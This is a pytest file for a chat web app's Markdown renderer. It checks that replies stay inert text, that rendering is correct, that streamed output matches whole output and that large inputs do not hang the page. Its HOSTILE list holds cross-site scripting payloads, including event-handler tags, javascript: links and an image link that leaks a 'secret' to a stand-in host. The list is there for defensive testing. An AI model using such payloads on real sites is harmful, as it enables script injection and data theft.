"""A reply is text: Markdown of it is shown, and nothing in it is ever run, fetched or waited for."""

import pytest

from tests.serve.page.browser import EVERYTHING

HOSTILE = [
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<iframe src=//evil.test>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](\x01javascript:alert(1))", "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)", "[a](vbscript:x)", "<javascript:alert(1)>", "[a](//evil.test)",
    "![a](https://evil.test/?q=secret)", "![a](javascript:alert(1))", "**<b onclick=alert(1)>**",
    "`<img src=x onerror=alert(1)>`", "```html\n<img src=x onerror=alert(1)>\n```", "```<b>\nx\n```",
    '[a](https://x.test "onmouseover=alert(1)")', "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "> <img src=x onerror=alert(1)>",
    "<think><img src=x onerror=alert(1)></think>done",
]  # fmt: skip


def test_a_hostile_reply_is_inert(chat):
    chat.send("say:" + "\n\n".join(HOSTILE))
    assert "<img src=x onerror=alert(1)>" in chat.replies[0]
    links = nothing_live(chat)
    safe = ["noopener noreferrer nofollow", "_blank"]
    assert links == [["https://evil.test/?q=secret", *safe], ["https://x.test/", *safe]]
    chat.button("New chat").click()
    chat.send("say:<think><img src=x onerror=alert(1)></think>[a](javascript:alert(1))")
    assert chat.replies == ["[a](javascript:alert(1))"]
    assert chat.page.locator(".reasoning div").text_content() == "<img src=x onerror=alert(1)>"
    assert nothing_live(chat) == []


def nothing_live(chat):
    """Checks that no element but those of text was made of what a model or user wrote; returns the links."""
    inside = ".prose, .bubble, .reasoning, #chat-list .open"
    made = chat.page.locator(inside).evaluate_all(
        "all => all.flatMap(one => [...one.querySelectorAll('*')].map(e => [e.localName, ...e.getAttributeNames()]))"
    )
    assert not {tag for tag, *_ in made} & {"img", "script", "iframe", "object", "style", "form", "b", "base", "meta"}
    assert not [name for _, *names in made for name in names if name.startswith("on")]
    return chat.page.locator(".prose a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")


def test_a_hostile_title_and_a_broken_store(chat):
    chat.send("<img src=x onerror=alert(1)>")
    chat.page.evaluate("localStorage.setItem('llmlite.title.x', '{'); localStorage.setItem('llmlite.settings', '[')")
    chat.page.reload()
    assert chat.page.locator("#chat-list .open").all_inner_texts() == ["<img src=x onerror=alert(1)>"]
    chat.send("say:works")
    assert chat.replies == ["works"]


def test_nothing_becomes_html_even_by_mistake(page):
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<b>x</b>'")


MARKDOWN = [
    ("a *b* **c** ***d*** ~~e~~ `f*g*`", "<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <del>e</del> "
     "<code>f*g*</code></p>"),
    ("snake_case_name 2 * 3 * 4 \\*no\\* a**", "<p>snake_case_name 2 * 3 * 4 *no* a**</p>"),
    ("**a *b***", "<p><strong>a <em>b</em></strong></p>"),
    ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("## Title ##\ntext", "<h4>Title</h4><p>text</p>"),
    ("text\n- a\n  - b\n- c", "<p>text</p><ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
    ("- a\n\n- b\n\n  more", "<ul><li>a</li><li><p>b</p><p>more</p></li></ul>"),
    ("3. a\n4. b\n- c", '<ol start="3"><li>a</li><li>b</li></ol><ul><li>c</li></ul>'),
    ("> a\n> - b\n\nc", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote><p>c</p>"),
    ("a\n***\nb", "<p>a</p><hr><p>b</p>"),
    ("|a|b|\n|-|:-:|\n|1|x \\| y|", "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
     "<tbody><tr><td>1</td><td>x | y</td></tr></tbody></table>"),
    ("a | b\nc", "<p>a | b<br>c</p>"),
    ("`` a`b ``", "<p><code>a`b</code></p>"),
    ("see https://example.org/a_b.", "<p>see <a>https://example.org/a_b</a>.</p>"),
    ("[x](https://example.org/a_(b)) [y](ftp://example.org)", "<p><a>x</a> [y](ftp://example.org)</p>"),
    ("a < b && c > d &lt;", "<p>a &lt; b &amp;&amp; c &gt; d &amp;lt;</p>"),
]  # fmt: skip


def test_markdown(page):
    show = """async text => {
      const root = document.createElement('div');
      root.append((await import('./web/markdown.js')).render(text));
      for (const e of root.querySelectorAll('.table')) e.replaceWith(...e.childNodes);
      for (const e of root.querySelectorAll('*'))
        for (const name of e.getAttributeNames()) if (name !== 'start') e.removeAttribute(name);
      return root.innerHTML;
    }"""
    assert [(text, page.evaluate(show, text)) for text, _ in MARKDOWN] == MARKDOWN


def test_a_growing_text_ends_as_the_whole_one(page):
    """At every cut, so also within a fence, a list or a table."""
    same = """async text => {
      const { Growing, render } = await import('./web/markdown.js');
      const [grown, whole] = [document.createElement('div'), document.createElement('div')];
      const growing = new Growing(grown);
      for (let end = 1; end <= text.length; end += 1) {
        growing.write(text.slice(0, end));
        whole.replaceChildren(render(text.slice(0, end)));
        if (grown.innerHTML !== whole.innerHTML) return text.slice(0, end);
      }
      return '';
    }"""
    fences = "a\n\n```\nb\n\nc\n```\n\nd\n\n- e\n\n- f\n\n  ~~~\n\n  g\n  ~~~\n\nh\n\n| a |\n|---|\n| b |\n\ni"
    for text in (EVERYTHING, fences, "\n\n".join(text for text, _ in MARKDOWN)):
        assert page.evaluate(same, text) == ""


def test_no_text_makes_the_page_hang(page):
    """Each of these takes minutes where work grows with the square of the text."""
    length = """async text => {
      const root = document.createElement('div');
      root.append((await import('./web/markdown.js')).render(text));
      return root.textContent.length;
    }"""
    for piece in ["*a ", "**a", "[", "[](", "[a](b", "`" * 3 + "a ", "`a``b", "> ", "- ", "_a ", "<http://", "| ", "~~a",
                  "![", "\\", "# ", "* *", "http://a "]:  # fmt: skip
        for text in (piece * (200_000 // len(piece)), (piece + "\n") * 20_000):
            assert page.evaluate(length, text) > 0 or set(text) <= set("> -\n*#")
